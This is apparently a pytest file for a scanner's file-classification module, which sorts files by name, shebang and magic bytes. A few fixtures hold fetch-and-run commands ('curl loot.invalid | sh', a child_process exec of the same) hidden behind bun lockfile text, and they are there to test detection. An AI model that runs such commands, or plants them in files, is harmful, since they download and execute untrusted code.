"""Kinds: names and first bytes say what a file is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Language
from pratique.analysis.kinds import Code, Compiled, Format, Inert, Kind, Packed, classify, is_auxiliary
from pratique.core.tree import File

NAMES = [
    ("a.js", Language.JAVASCRIPT),
    ("a.cjs", Language.JAVASCRIPT),
    ("lib/A.MJS", Language.JAVASCRIPT),
    ("a.jsx", Language.JAVASCRIPT),
    ("a.ts", Language.TYPESCRIPT),
    ("a.mts", Language.TYPESCRIPT),
    ("a.cts", Language.TYPESCRIPT),
    ("a.tsx", Language.TSX),
    ("a.py", Language.PYTHON),
    ("a.pyw", Language.PYTHON),
    ("x-nspkg.pth", Language.PTH),
    ("a.sh", Language.SHELL),
    ("a.bat", Language.BATCH),
    ("A.CMD", Language.BATCH),
    ("a.ps1", Language.POWERSHELL),
    ("a.psm1", Language.POWERSHELL),
    ("a.vbs", Language.VBS),
    ("a.command", Language.SHELL),
    ("a.bash", Language.SHELL),
    ("binding.gyp", Language.GYP),
    ("common.gypi", Language.GYP),
    ("lib/a.rb", Language.RUBY),
    ("a.rbw", Language.RUBY),
    ("lib/tasks/a.rake", Language.RUBY),
    ("config.ru", Language.RUBY),
    ("a.gemspec", Language.RUBY),
    ("Rakefile", Language.RUBY),
    ("ext/extconf", Language.RUBY),
    ("ext/configure", Language.SHELL),
    ("ext/my_extconf.txt", Language.RUBY),
    ("ext/RAKEFILE.txt", Language.RUBY),
    ("ext/mkrf_conf.rb", Language.RUBY),
    ("lib/rubygems_plugin", Language.RUBY),
    ("Gemfile", Language.RUBY),
    ("package.json", Language.JSON),
    ("esm/package.json", Language.JSON),
]


@pytest.mark.parametrize(("path", "language"), NAMES)
def test_a_name_tells_the_language(path: str, language: Language) -> None:
    assert Code(language) == classify(File(path, b"x"))


@pytest.mark.parametrize("path", ["templates/Rakefile.tt", "ext/a/extconf-c.rb.tt", "Gemfile.erb"])
def test_a_template_is_no_code_because_of_the_name_of_what_it_makes(path: str) -> None:
    assert Inert() == classify(File(path, b"<% if x %>"))
    assert Code(Language.RUBY) == classify(File(path, b"#!/usr/bin/env ruby\n"))


@pytest.mark.parametrize(
    "path",
    [
        "AppContextConfig.swift",
        "a.d.ts",
        "a.d.mts",
        "a.d.cts",
        "style.d.css.ts",
        "a.json",
        "a.txt",
        "a",
        "a.map",
    ],
)
def test_types_and_data_are_no_code(path: str) -> None:
    assert Inert() == classify(File(path, b"x"))


SHEBANGS = [
    (b"#!/usr/bin/env node\n", Language.JAVASCRIPT),
    (b"#!/usr/bin/env -S node --harmony\n", Language.JAVASCRIPT),
    (b"#!/usr/bin/env bun\n", Language.TYPESCRIPT),
    (b"#!/usr/bin/env -S deno run\n", Language.TYPESCRIPT),
    (b"#!/usr/bin/python3.11\n", Language.PYTHON),
    (b"#!/usr/bin/env A=1 python\n", Language.PYTHON),
    (b"\xef\xbb\xbf#! /bin/sh -e\n", Language.SHELL),
    (b"#!/bin/zsh", Language.SHELL),
    (b"#!/usr/bin/env pwsh\n", Language.POWERSHELL),
    (b"#!/usr/bin/env ruby\n", Language.RUBY),
    (b"#!/usr/bin/ruby3.3 -w\n", Language.RUBY),
]


@pytest.mark.parametrize(("data", "language"), SHEBANGS)
@pytest.mark.parametrize("path", ["bin/tool", "bin/tool.txt"])
def test_a_first_line_tells_the_interpreter(path: str, data: bytes, language: Language) -> None:
    assert Code(language) == classify(File(path, data))


@pytest.mark.parametrize("data", [b"#!/usr/bin/perl\n", b"#!", b"#!/usr/bin/env\n", b"#! \n"])
def test_another_interpreter_is_no_code_of_ours(data: bytes) -> None:
    assert Inert() == classify(File("tool", data))


LOCK = b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n"


def test_a_lock_that_bun_prints_is_data() -> None:
    assert Inert() == classify(File("bun.lockb", LOCK + b"\2\0\0\0\x95\xe1\0\0require('child_process')"))


@pytest.mark.parametrize(
    "rest",
    [
        b"var bun, lockfile, format, v0;\nrequire('child_process').exec('curl loot.invalid | sh');\n",
        b"\n\0\0\0require('child_process');\n",
        b"/*\0\0\0*/require('child_process');\n",
        b"\2 require('child_process');\n",
    ],
    ids=["code behind the words", "an empty line", "a comment", "no number"],
)
def test_the_words_of_a_lock_make_no_code_data(rest: bytes) -> None:
    assert Code(Language.TYPESCRIPT) == classify(File("bun.lockb", LOCK + rest))


def test_a_lock_under_a_name_of_code_stays_code() -> None:
    assert Code(Language.SHELL) == classify(File("a.sh", LOCK + b"\2\0\0\0\ncurl loot.invalid | sh\n"))


MAGIC = [
    ("a.so", b"\x7fELF\2\1\1", Compiled(Format.ELF)),
    ("image.png", b"\x7fELF\2\1\1", Compiled(Format.ELF)),
    ("a.js", b"MZ\x90\0\3\0\0\0", Compiled(Format.PE)),
    ("a.node", b"\xcf\xfa\xed\xfe\7\0\0\1", Compiled(Format.MACH_O)),
    ("fat", b"\xca\xfe\xba\xbe\0\0\0\2", Compiled(Format.MACH_O)),
    ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34", Compiled(Format.JAVA)),
    ("a.bin", b"\0asm\1\0\0\0", Compiled(Format.WASM)),
    ("a.a", b"!<arch>\nx", Compiled(Format.ARCHIVE)),
    ("a.dat", b"\xf3\x0d\r\n\0\0\0\0" + b"\0" * 12, Compiled(Format.PYTHON)),
    ("a.pyc", b"anything", Compiled(Format.PYTHON)),
    ("a.zip", b"PK\3\4x", Packed()),
    ("a.whl", b"PK\3\4x", Packed()),
    ("a", b"\x1f\x8b\x08", Packed()),
    ("a.tar", b"\0" * 257 + b"ustar", Packed()),
    ("a.7z", b"7z\xbc\xaf\x27\x1c", Packed()),
    ("MZ.txt", b"MZ is what it starts with", Inert()),
    ("empty", b"", Inert()),
]


@pytest.mark.parametrize(("path", "data", "kind"), MAGIC)
def test_first_bytes_tell_what_is_compiled_or_packed_whatever_the_name(
    path: str, data: bytes, kind: Kind
) -> None:
    assert kind == classify(File(path, data))


def test_only_python_byte_code_is_byte_code() -> None:
    assert Compiled(Format.PYTHON).bytecode
    assert not Compiled(Format.ELF).bytecode


def test_binary_content_under_a_code_name_stays_code() -> None:
    assert Code(Language.JAVASCRIPT) == classify(File("a.js", b"\0\1\2"))


AUXILIARY = [
    *("tests/a.py", "src/__tests__/a.js", "lib/test/a.js", "examples/a.py", "docs/conf.py", "benchmark/x.js"),
    *(
        "a.test.js",
        "lib/a.spec.ts",
        "a_test.py",
        "test_a.py",
        "pkg/conftest.py",
        "fixtures/a.js",
        "a.bench.mjs",
    ),
    *("Test/A.js", "gulpfile.js", ".github/x.py"),
    *(
        "spec/a.rb",
        "lib/a_spec.rb",
        "lib/a_test.rb",
        "test_a.rb",
        "spec_helper.rb",
        "Gemfile",
        "Rakefile",
        "a.gemspec",
    ),
]
SHIPPED = [
    "index.js",
    "src/a.py",
    "latest.js",
    "testing.py",
    "contest/a.js",
    "protest.py",
    "attest.js",
    "lib/spec.js",
    "lib/a.rb",
    "lib/spec.rb",
    "lib/contest.rb",
    "lib/tasks/a.rake",
    "ext/a/extconf.rb",
]


@pytest.mark.parametrize("path", AUXILIARY)
def test_tests_examples_and_documentation_are_auxiliary(path: str) -> None:
    assert is_auxiliary(path)


@pytest.mark.parametrize("path", SHIPPED)
def test_other_files_are_not_auxiliary(path: str) -> None:
    assert not is_auxiliary(path)


@pytest.mark.fuzz
@given(st.text(max_size=30), st.binary(max_size=300))
def test_any_file_has_a_kind(path: str, data: bytes) -> None:
    assert isinstance(classify(File(path, data)), Code | Compiled | Packed | Inert)
    assert is_auxiliary(path) in {True, False}


def test_what_cython_compiles_is_no_python_whatever_its_first_line_says() -> None:
    assert Inert() == classify(File("a/b.pyx", b"#!python\ncdef int x\n"))
    assert Inert() == classify(File("a/b.pyx.in", b"#!python\n{{for x in y}}\ncdef int x\n"))


def test_attributes_that_a_mac_packed_beside_a_file_are_no_code() -> None:
    attributes = b"\0\x05\x16\x07\0\x02\0\0Mac OS X        "

    assert Inert() == classify(File("a/._setup.py", attributes))
    assert isinstance(classify(File("a/setup.py", attributes)), Code)
    assert isinstance(classify(File("a/._setup.py", b"run()\n")), Code)
    assert isinstance(classify(File("a/._run.sh", attributes + b"\nrun\n")), Code)


@pytest.mark.parametrize("head", [b"MZ=0/*\0*/;", b"`\x0c\r\n\0\0\0\0        `;", b"!<arch>\n"])
@pytest.mark.parametrize("name", ["a.js", "a.py", "a.rb", "a.sh"])
def test_code_that_begins_as_a_program_does_is_code_where_its_name_says_so(head: bytes, name: str) -> None:
    assert isinstance(classify(File(name, head + b"run()")), Code)
    assert not isinstance(classify(File("a.bin", head + b"run()")), Code)


def test_a_shell_goes_past_a_first_line_that_is_a_program_s() -> None:
    assert isinstance(classify(File("a.sh", b"\x7fELF\ncurl x | sh\n")), Code)
    assert isinstance(classify(File("a.js", b"\x7fELF\nrun()\n")), Compiled)


def test_native_code_that_is_a_script_is_read_as_one() -> None:
    script = b"'use strict';\nexports.f = () => require('fs');\n"
    assert Code(Language.JAVASCRIPT) == classify(File("prebuilds/a.node", script))
    assert Inert() == classify(File("prebuilds/a.node", b"version https://git-lfs.github.com/spec/v1\n"))
    assert Inert() == classify(File("prebuilds/a.node", b"\0" + script))
    assert Inert() == classify(File("prebuilds/a.dat", script))


@pytest.mark.parametrize(
    "line", ["#!/usr/bin/env -S nice python3", "#!/usr/bin/env -S uv run --script", "#!/usr/bin/nohup python"]
)
def test_a_program_that_starts_the_interpreter_is_passed_over(line: str) -> None:
    assert Code(Language.PYTHON) == classify(File("tool", line.encode() + b"\nprint(1)\n"))
